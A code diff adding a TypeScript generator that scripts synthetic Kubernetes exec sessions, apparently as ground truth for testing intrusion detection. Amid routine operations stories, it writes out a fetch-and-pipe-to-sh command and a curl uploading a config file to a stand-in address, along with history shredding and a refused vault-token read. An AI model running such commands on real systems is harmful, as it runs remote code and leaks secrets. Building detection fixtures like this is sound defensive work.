@@ -1,0 +1,196 @@
+import { RULES } from './falco';
+import { type At, HOUR, MINUTE, SECOND } from './log';
+import type { Container } from './node';
+import { runSession, type SessionPlan, type Step } from './session';
+import type { TruthLogin, TruthSession } from './truth';
+import { placeOf } from './log';
+import type { World } from './world';
+
+const step = (wait: number, argv: readonly string[], lasts: number, more: Partial<Step> = {}): Step => ({ wait, argv, lasts, ...more });
+
+/** An address outside every network of the sample's clusters. */
+export const UNKNOWN = '192.0.2.77';
+const MIRROR = '198.51.100.80';
+
+export interface Told {
+  readonly sessions: readonly (() => TruthSession)[];
+  readonly logins: readonly (() => TruthLogin)[];
+}
+
+/** The stories of the doc comment in generate.ts. In the small sample only those near the first. */
+export function tellStories(world: World): Told {
+  const { size } = world.options;
+  const plans = [...download(world), ...(size === 'full' ? [bench(world), ...dayOfWork(world)] : [])];
+  const sessions = [...plans, ...(world.options.traps.sameCommandSameSecond ? sameSecond(world) : [])].map((plan) => runSession(world, plan));
+  return { sessions, logins: size === 'full' ? [hostCapture(world)] : [] };
+}
+
+/** Story 1 and its traps: a second person in the same pod at the same time, running bash and curl too. */
+function download(world: World): SessionPlan[] {
+  const { story } = world.options;
+  const container = world.container('prod-eu', 'billing', 'billing-api');
+  const host = new URL(story.url).hostname;
+  const user = world.human(story.user, 'dev-billing', story.from);
+  const second = world.human(story.second, 'oncall', story.secondFrom, 'kubectl/v1.30.9 (darwin/arm64) kubernetes/e4b6ae1');
+  const run = `${story.target}/.cache/run.sh`;
+  const shared = { container, tty: true } as const;
+  return [
+    {
+      ...shared,
+      story: 'download',
+      user,
+      command: story.command,
+      at: world.storyAt,
+      transport: 'websocket',
+      rest: 4.48,
+      steps: [
+        step(8.26, ['curl', '-sSL', '-o', story.download, story.url], 0.62, {
+          acts: [
+            { connect: host, port: 443, after: 0.028, lasts: 0.55, odd: true },
+            { write: story.download, after: 0.54 },
+          ],
+        }),
+        step(10.79, ['tar', '-xzf', story.download, '-C', story.target], 0.071, {
+          children: [step(0.0029, ['gzip', '-d'], 0.049)],
+          acts: [{ write: run, after: 0.05 }],
+        }),
+        step(26.76, ['shred', '-u', story.history], 0.02, {
+          alert: 'history',
+          acts: [
+            { write: story.history, after: 0.002 },
+            { remove: story.history, after: 0.0037 },
+          ],
+        }),
+      ],
+    },
+    {
+      ...shared,
+      story: 'second person',
+      user: second,
+      command: ['bash'],
+      at: world.storyAt - Math.round(2.7 * SECOND),
+      transport: 'spdy',
+      rest: 21.3,
+      steps: [
+        step(6.4, ['ls', '-la', '/var/log/app'], 0.006),
+        step(9.15, ['curl', '-s', 'http://10.96.20.15:8080/healthz'], 0.09, { acts: [{ connect: '10.96.20.15', port: 8080, after: 0.011 }] }),
+        step(3.2, ['grep', '-c', 'ERROR', '/var/log/app/current.log'], 0.03),
+      ],
+    },
+  ];
+}
+
+/** Story 2: the shell that installs and launches Apache Bench; its connections are made in traffic.ts's manner, one by one. */
+function bench(world: World): SessionPlan {
+  const container = world.container('prod-eu', 'shop', 'storefront');
+  const { story } = world.options;
+  const random = world.random.fork('bench');
+  const target = '10.96.12.40';
+  const burst = (lasts: number, n: number) =>
+    Array.from({ length: n }, () => ({ connect: target, port: 80, after: random.between(0.05, lasts - 0.5) })).sort((a, b) => a.after - b.after);
+  const ab = (minutes: number, n: number, c: number) =>
+    step(20, ['ab', '-n', String(n), '-c', String(c), `http://${target}/`], minutes * 60, { alert: 'newBinary', acts: burst(minutes * 60, n) });
+  const at = 11 * HOUR + 57 * MINUTE + 20.118204 * SECOND;
+  return {
+    story: 'bench',
+    user: world.human(story.user, 'dev-billing', story.from),
+    container,
+    command: ['bash'],
+    tty: true,
+    at: Math.round(at),
+    transport: 'websocket',
+    rest: 31,
+    steps: [
+      step(5.1, ['apk', 'add', '--no-cache', 'apache2-utils'], 6.3, {
+        alert: 'packageManager',
+        acts: [
+          { connect: MIRROR, port: 443, after: 0.14, lasts: 4.8, odd: true },
+          { write: '/usr/bin/ab', after: 5.9 },
+        ],
+      }),
+      step(4.2, ['ab', '-V'], 0.01, { alert: 'newBinary' }),
+      step(110, ['ab', '-n', '200', '-c', '2', `http://${target}/`], 12, { alert: 'connectionPeak', acts: burst(12, 200) }),
+      ab(58, 7200, 10),
+      ab(59, 7400, 10),
+      ab(58, 7300, 12),
+    ],
+  };
+}
+
+/** The other stories of the full sample. */
+function dayOfWork(world: World): SessionPlan[] {
+  const at = (h: number, m: number, s: number): At => Math.round((h * HOUR) + m * MINUTE + s * SECOND);
+  const oncall = world.human('oncall-2', 'oncall', '203.0.113.61');
+  const first = world.human('oncall-1', 'oncall', '203.0.113.60');
+  const old = world.human('mira', 'dev-shop', '203.0.113.24', 'kubectl/v1.31.0 (windows/amd64) kubernetes/9edcffc');
+  const runner = world.serviceAccount('platform', 'ci-runner', '10.244.3.77', 'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625');
+  const prod = (namespace: string, workload: string, n = 0): Container => world.container('prod-eu', namespace, workload, n);
+  const gateway = prod('payments', 'gateway');
+  const base = { tty: false, transport: 'websocket', rest: 0.2, steps: [] } as const;
+  const capture = (n: number) => ['tcpdump', '-ni', 'eth0', '-c', String(n), '-w', '/tmp/gw.pcap'];
+  const debug = world.newPod(prod('shop', 'cart'), 'net-debug', at(16, 20, 2), 'platform/netdebug:1.4.0', 'net-debug');
+  return [
+    { ...base, story: 'tcpdump', user: oncall, container: gateway, command: ['sh'], tty: true, at: at(8, 31, 12.44), rest: 12, steps: [
+      step(9, capture(500), 48, { alert: 'packetSocket', acts: [{ write: '/tmp/gw.pcap', after: 1.2 }] }),
+      step(14, ['tcpdump', '-nr', '/tmp/gw.pcap'], 0.4, { alert: 'networkTool' }),
+    ] },
+    { ...base, story: 'tcpdump', user: oncall, container: gateway, command: capture(200), at: at(8, 40, 1.02), rest: 31, acts: [{ write: '/tmp/gw.pcap', after: 0.9 }] },
+    { ...base, story: 'kubectl cp', kind: 'cp', user: oncall, container: gateway, command: ['tar', 'cf', '-', '/tmp/gw.pcap'], at: at(8, 44, 30.7), rest: 0.4 },
+    { ...base, story: 'refused exec', user: runner, container: gateway, command: ['sh'], tty: true, at: at(14, 4, 6.220431), outcome: 'refused', transport: 'spdy' },
+    { ...base, story: 'refused exec', user: world.human('temp-contractor', 'contractors', '198.51.100.140'), container: prod('payments', 'vault-sync'), command: ['cat', '/etc/vault/token'], at: at(2, 13, 44.9), outcome: 'refused' },
+    { ...base, story: 'websocket always refused', user: old, container: prod('shop', 'cart', 1), command: ['sh'], tty: true, at: at(9, 2, 3.3), refusedFirst: true, transport: 'spdy', rest: 8, steps: [step(4, ['env'], 0.01), step(6, ['df', '-h'], 0.01)] },
+    { ...base, story: 'websocket always refused', user: old, container: prod('shop', 'checkout'), command: ['ls', '-la', '/srv'], at: at(13, 48, 40.1), refusedFirst: true, transport: 'spdy' },
+    { ...base, story: 'websocket always refused', user: old, container: prod('shop', 'cart'), command: ['sh', '-c', 'date; ls /srv'], at: at(17, 22, 11.8), refusedFirst: true, transport: 'spdy', steps: [step(0.004, ['date'], 0.002), step(0.002, ['ls', '/srv'], 0.003)] },
+    { ...base, story: 'command not found', user: first, container: prod('kube-system', 'coredns'), command: ['/bin/bash'], tty: true, at: at(10, 51, 20.6), outcome: 'no-process', rest: 0.21 },
+    { ...base, story: 'silence', user: first, container: prod('shop', 'checkout'), command: ['bash'], tty: true, at: at(9, 40, 17.2), rest: 90, steps: [step(20, ['cat', '/etc/hosts'], 0.004)] },
+    { ...base, story: 'wrapper', user: world.human('dba-rotation', 'dba', '203.0.113.88'), container: prod('billing', 'ledger'), command: ['sh', '-c', 'exec env STEP=7 /opt/ledger/migrate --to 41'], at: at(6, 15, 0.4), rest: 14, becomes: [['env', 'STEP=7', '/opt/ledger/migrate', '--to', '41'], ['/opt/ledger/migrate', '--to', '41']], acts: [{ connect: '10.244.3.20', port: 5432, after: 0.3, lasts: 13 }] },
+    { ...base, story: 'outlives', user: first, container: prod('billing', 'ledger', 1), command: ['bash'], tty: true, at: at(19, 5, 31.5), rest: 3.1, steps: [
+      step(7, ['nohup', '/tmp/sync-ledger', '--loop'], 2400, { background: true, becomes: [['/tmp/sync-ledger', '--loop']], acts: [1, 600, 1200, 1800].map((after) => ({ connect: UNKNOWN, port: 8443, after, lasts: 2, odd: true })) }),
+      step(5, ['ps', 'aux'], 0.02),
+    ] },
+    { ...base, story: 'unknown address', user: world.human('svc-report', 'dev-billing', '198.51.100.9'), container: prod('billing', 'billing-api', 1), command: ['sh', '-c', `wget -qO- http://${UNKNOWN}:8443/i | sh`], at: at(3, 27, 55.01), rest: 1.4, steps: [
+      step(0.01, ['wget', '-qO-', `http://${UNKNOWN}:8443/i`], 0.7, { acts: [{ connect: UNKNOWN, port: 8443, after: 0.02, lasts: 0.6, odd: true }] }),
+      step(0.005, ['sh'], 1.2, { children: [step(0.3, ['curl', '-s', '-T', '/etc/billing/app.yaml', `http://${UNKNOWN}:8443/u`], 0.5, { acts: [{ connect: UNKNOWN, port: 8443, after: 0.02, lasts: 0.4, odd: true }] })] }),
+    ] },
+    { ...base, story: 'port-forward', kind: 'port-forward', user: first, container: prod('monitoring', 'grafana'), command: [], at: at(7, 50, 9.9), rest: 1260 },
+    { ...base, story: 'kubectl run', kind: 'attach', user: old, container: debug, command: [], tty: true, at: at(16, 20, 4.1), rest: 300 },
+    { ...base, story: 'still open', user: world.human('noc-screen', 'oncall', '203.0.113.70'), container: prod('monitoring', 'prometheus'), command: ['sh'], tty: true, at: at(23, 41, 3.7), open: true, rest: 900, steps: [step(30, ['ls', '/prometheus'], 0.004)] },
+  ];
+}
+
+/** Two people, one command, one container, one second. */
+function sameSecond(world: World): SessionPlan[] {
+  const at = world.storyAt + Math.round(9.3 * MINUTE);
+  const container = world.container('prod-eu', 'payments', 'gateway', 1);
+  const users = [world.human('oncall-1', 'oncall', '203.0.113.60'), world.human('oncall-3', 'oncall', '203.0.113.62')];
+  return users.map((user, n) => ({
+    story: 'same second',
+    user,
+    container,
+    command: ['sh'],
+    tty: true,
+    at: at + n * Math.round(0.31 * SECOND),
+    transport: n === 0 ? 'websocket' : 'spdy',
+    rest: 11 + n * 23,
+    steps: [step(4 + n, n === 0 ? ['cat', '/proc/net/tcp'] : ['ls', '/run/gateway'], 0.01)],
+  }));
+}
+
+/** Story 5 on a host: no Kubernetes involved, the login is the origin. */
+function hostCapture(world: World): () => TruthLogin {
+  const node = world.nodes[2]!;
+  const at = 18 * HOUR + 11 * MINUTE;
+  const sshd = node.spawn({ at, argv: ['sshd', '-D', '-R'] });
+  const shell = node.spawn({ at: at + 0.4 * SECOND, argv: ['bash'], parent: sshd, cwd: '/home/ops', uid: 1001, auid: 1001, tty: 34816 });
+  const dump = node.spawn({ at: at + 22 * SECOND, argv: ['tcpdump', '-i', 'any', '-c', '2000', 'port', '5432'], parent: shell, cwd: '/home/ops', auid: 1001, tty: 34816 });
+  node.exit(dump, at + 81 * SECOND);
+  node.exit(shell, at + 95 * SECOND);
+  node.exit(sshd, at + 95.1 * SECOND);
+  const processes = [sshd, shell, dump];
+  return () => ({
+    node: node.name,
+    processes: processes.map((p) => ({ execId: p.execId, parentExecId: p.parent?.execId ?? '', node: node.name, pid: p.pid, argv: p.argv, exec: placeOf(p.exec), exit: placeOf(p.exit) })),
+  });
+}
+
+export { RULES };
